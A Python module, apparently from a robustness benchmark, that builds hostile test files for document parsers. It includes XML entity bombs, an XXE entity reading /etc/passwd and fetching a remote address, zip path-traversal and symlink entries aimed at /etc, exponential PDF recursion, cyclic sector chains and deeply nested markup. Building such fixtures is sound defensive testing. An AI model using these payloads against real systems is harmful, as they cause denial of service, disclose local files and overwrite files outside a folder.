"""Write further files that are small and ask for much, and what is no plain file: pipes, links, names of raw bytes."""

import os
import struct
import zipfile
from io import BytesIO
from pathlib import Path

from benchmarks.hostile.bombs import RENT, Maker, letter, opendocument, packed, pdf, web, workbook

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_PAGES = b"<</Type/Catalog/Pages 2 0 R>>"


def laughing(document: str, levels: int = 30) -> str:
    """Return an XML document of which one entity holds the others, ten times each."""
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "{RENT}">{entities}]>{document.format(f"&e{levels - 1};")}'


def book(chapter: str, chapters: int = 1) -> bytes:
    """Return an EPUB."""
    items = "".join(f'<item id="i{i}" href="a{i}.xhtml" media-type="application/xhtml+xml"/>' for i in range(chapters))
    spine = "".join(f'<itemref idref="i{i}"/>' for i in range(chapters))
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
            "a.opf": f"<package><manifest>{items}</manifest><spine>{spine}</spine></package>",
            **{f"a{i}.xhtml": chapter for i in range(chapters)},
        }
    )


def page_of(content: bytes, *objects: bytes) -> bytes:
    """Return a PDF of one page with that content; `objects` begin with number 5, which is its form /X."""
    return pdf(
        _PAGES,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content),
        *objects,
    )


def form(content: bytes, resources: bytes) -> bytes:
    """Return a form that a page draws."""
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<<%s>>>>" % resources
    return head + b"/Length %d>>\nstream\n%s\nendstream" % (len(content), content)


def doubling(levels: int) -> bytes:
    """Return a PDF whose form draws another one twice, and that one the next: two to the power of `levels` in all."""
    forms = [form(b"/X Do /X Do", b"/X %d 0 R" % (6 + i)) for i in range(levels)]
    return page_of(b"/X Do", *forms, form(b"0 0 m 9 9 l S", b""))


def compound(kind: bytes, sectors: int) -> bytes:
    """Return the head of an Outlook message whose chain of sectors leads back to its beginning."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    counts = struct.pack("<6xIIIIIIIII", 0, sectors, 0, 0, 4096, 0, 1, 0, 1)
    chain = struct.pack("<128I", *[(i + 1) % 8 for i in range(128)])
    return (head + counts).ljust(76, b"\0") + chain[:436] + chain * 40 + kind


def archive(names: list[str], link: str = "") -> bytes:
    """Return a ZIP of texts with these names, and of a symbolic link to `link`."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in names:
            file.writestr(name, RENT)
        if link:
            info = zipfile.ZipInfo("link.txt")
            info.create_system, info.external_attr = 3, 0o120777 << 16
            file.writestr(info, link)
    return out.getvalue()


TRAPS: dict[str, Maker] = {
    "entities.epub": lambda: book(laughing("<html><body><p>{}</p></body></html>")),
    "entities.xlsx": lambda: workbook(laughing(f"<worksheet {_MAIN}><sheetData>{{}}</sheetData></worksheet>")),
    "outside.epub": lambda: book(
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM "http://192.0.2.1/x">]>'
        f"<html><body><p>{RENT} &e; &n;</p></body></html>"
    ),
    "columns.ods": lambda: opendocument(
        '<office:spreadsheet><table:table table:name="A">'
        '<table:table-column table:number-columns-repeated="999999999"/>'
        + '<table:table-row table:number-rows-repeated="1000"><table:table-cell table:number-columns-repeated="16384"/>'
        "<table:table-cell><text:p>x</text:p></table:table-cell></table:table-row>"
        * 500
        + "</table:table></office:spreadsheet>",
        "spreadsheet",
    ),
    "shared strings.xlsx": lambda: workbook(
        f"<worksheet {_MAIN}><sheetData><row><c t='s'><v>999999</v></c></row></sheetData></worksheet>",
        f"<sst {_MAIN} count='4000000000'>" + "<si><r><t>x</t></r></si>" * 1_000_000 + "</sst>",
    ),
    "tables.rtf": lambda: b"{\\rtf1 " + b"{\\trowd\\cellx1\\intbl\\itap99 x\\nestcell" * 30_000 + RENT.encode(),
    "fields.rtf": lambda: b"{\\rtf1 " + b"{\\field{\\*\\fldinst " * 100_000 + RENT.encode() + b"}" * 200_000,
    "chain.msg": lambda: compound(b"__substg1.0_1000001F".ljust(512), 0xFFFF),
    "siblings.eml": lambda: letter(
        b"--b\r\nContent-Type: text/plain; name=a.txt\r\n\r\nx\r\n" * 10_000 + b"--b--", b"multipart/mixed; boundary=b"
    ),
    "letters.eml": lambda: b"Content-Type: message/rfc822\r\n\r\n" * 5000 + letter(RENT.encode()),
    "doubling.pdf": lambda: doubling(40),
    "itself.pdf": lambda: page_of(b"/X Do", form(b"/X Do /X Do", b"/X 5 0 R")),
    "page tree.pdf": lambda: pdf(
        _PAGES, b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 2147483647>>", b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R>>"
    ),
    "cross references.pdf": lambda: (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\nxref\n0 2000000000\n"
        + b"0000000009 00000 n \n" * 200_000
        + b"trailer <</Root 1 0 R/Size 2000000000/Prev 60>>\nstartxref\n60\n%%EOF"
    ),
    "filters.pdf": lambda: pdf(
        _PAGES,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Contents 4 0 R>>",
        b"<</Length 9/Filter[%s]>>\nstream\n789c030000\nendstream" % (b"/FlateDecode " * 50_000),
    ),
    "attributes.html": lambda: web("<p " + " ".join(f"a{i}=1" for i in range(1_000_000)) + ">x</p>"),
    "deep.html": lambda: web("<div>" * 300_000 + "x"),
    "references.html": lambda: web("&amp" * 1_000_000 + "&#x110000;" * 200_000),
    "one field.csv": lambda: b'a,b\n1,"' + b"rent " * 20_000_000 + b'"\n',
    "entries.zip": lambda: archive([f"{i}/" for i in range(100_000)]),
    "climbing.zip": lambda: archive(
        ["../../../../../../tmp/climbed.txt", "/etc/climbed.txt", "C:\\climbed.txt", "a\0b.txt"]
    ),
    "link.zip": lambda: archive(["a.txt"], link="/etc/passwd"),
    "nulls.txt": lambda: bytes(20_000_000),
    "wide.txt": lambda: f"\ufeff{RENT} ".encode("utf-16") * 100_000,
    "turned.txt": lambda: ("\u202e" * 1000 + RENT).encode() * 100,
    "reference.md": lambda: b"".join(b"[^%d]: [^%d]\n\n" % (i, i + 1) for i in range(50_000)),
}
STRANGE = (
    "pipe.txt",
    "zeros.txt",
    "terminal.txt",
    "circle.txt",
    "nowhere.txt",
    os.fsdecode(b"raw \xff\xfe.txt"),
    "two\nlines.txt",
)
"""Names of what `strange` makes, as a listing has them."""


def strange(folder: Path) -> None:
    """Make what is no plain file, a pipe and links that lead nowhere good, and names that no one types."""
    pipe, zeros, terminal, circle, nowhere, raw, lines = (folder / name for name in STRANGE)
    os.mkfifo(pipe)
    zeros.symlink_to("/dev/zero")
    terminal.symlink_to("/dev/tty")
    circle.symlink_to(circle.name)
    nowhere.symlink_to("nothing-is-here")
    for each in (raw, lines):
        each.write_text(RENT, "utf-8")
